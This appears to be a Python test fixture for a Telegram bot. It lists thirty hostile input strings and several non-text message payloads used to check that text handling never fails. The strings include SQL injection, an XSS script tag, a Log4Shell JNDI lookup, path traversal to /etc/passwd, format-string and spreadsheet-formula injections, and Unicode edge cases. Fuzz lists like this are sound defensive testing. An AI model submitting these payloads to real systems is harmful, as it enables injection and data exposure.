"""What strangers send: thirty strings that broke somebody's bot (reliability F43–F47), and more.

Every step that takes text must answer each of them, save nothing of it by halves, and never fail.
"""

from rehearsal.api_error import JSON

HOSTILE = [
    "a" * 4096,
    "长" * 4096,
    "👍" * 2048,
    "<" * 4096,
    "&lt;&l" * 300,
    "<b>粗<i>斜</b>",
    '<a href="tg://user?id=1">点我</a>',
    "</code><script>alert(1)</script>",
    "*_`[]()~>#+-=|{}.!",
    "'; DROP TABLE volunteer; --",
    '" OR 1=1 --',
    "{0.__class__.__mro__}",
    "{ $name }",
    "%s%n%x%d",
    "${jndi:ldap://x/y}",
    "../../../../etc/passwd",
    "\u202e后倒名姓",
    "李\u200b志\u200d愿\ufeff",
    "e" + "\u0301" * 60,
    "ท" + "็" * 60,
    "👨\u200d👩\u200d👧\u200d👦",
    "\ud83d",
    "\x00",
    "李\x00志愿",
    "\x1b[31m红\x1b[0m\x07",
    "\u3164\u115f\uffa0",
    "  \t\u3000  .",
    "٠١٢٣٤٥٦٧٨٩",
    "NaN Infinity -1 1e999 0x41",
    '=HYPERLINK("http://x","y")',
]

assert len(HOSTILE) == 30

# What is no text at all, as Telegram sends it; photos and files need their bytes on the stage.
_FILE = {"file_id": "invented", "file_unique_id": "invented", "file_size": 1000}
NO_TEXT: dict[str, JSON] = {
    "sticker": {
        "sticker": _FILE
        | {"type": "regular", "width": 512, "height": 512, "is_animated": False, "is_video": False}
    },
    "location": {"location": {"latitude": 22.78, "longitude": 100.97}},
    "contact": {"contact": {"phone_number": "8613900000000", "first_name": "<b>谁</b>"}},
    "voice": {"voice": _FILE | {"duration": 3}},
    "video": {"video": _FILE | {"width": 9, "height": 9, "duration": 3}, "caption": "{0}<b>"},
    "dice": {"dice": {"emoji": "🎲", "value": 3}},
}
